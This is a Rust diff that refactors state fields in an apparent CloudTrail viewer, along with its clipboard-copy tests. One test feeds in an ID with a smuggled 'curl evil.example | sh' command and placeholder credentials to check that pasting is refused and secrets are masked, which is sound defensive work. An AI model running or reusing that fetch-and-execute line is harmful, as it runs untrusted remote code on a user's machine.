@@ -36,7 +36,7 @@ pub(super) fn copy(state: &mut State, what: Command) -> Vec<Effect> {
             serde_json::to_string_pretty(&s.raw.decoded()).unwrap_or_default(),
         ),
         (_, None) => match state.selected_entity() {
-            Some(e) if state.focus == PaneId::Entities => e.id.clone(),
+            Some(e) if state.view.focus == PaneId::Entities => e.id.clone(),
             _ => return Vec::new(),
         },
         _ => return Vec::new(),
@@ -102,8 +102,8 @@ mod tests {
             "responseElements":{"credentials":{"accessKeyId":"ASIAEXAMPLE","secretAccessKey":"wJalrSECRET",
             "sessionToken":"IQoSECRET\u{202e}"}}});
         let (_, n) = normalize_record(f, &Options::default()).unwrap();
-        s.store.insert(n);
-        s.focus = PaneId::CloudTrail;
+        s.view.store.insert(n);
+        s.view.focus = PaneId::CloudTrail;
         s.pane_mut(PaneId::CloudTrail).rows = vec![0];
         s
     }
@@ -112,7 +112,7 @@ mod tests {
     fn an_id_that_would_run_when_pasted_is_refused_and_records_are_escaped_and_masked() {
         let mut s = state_with("e1\ncurl evil.example | sh");
         assert!(copy(&mut s, Command::CopyId).is_empty(), "refused");
-        assert!(s.toasts.last().unwrap().text.contains("not copied"));
+        assert!(s.ui.toasts.last().unwrap().text.contains("not copied"));
         let fx = copy(&mut s, Command::CopyJson);
         let [Effect::Copy(text)] = fx.as_slice() else {
             panic!("{fx:?}")
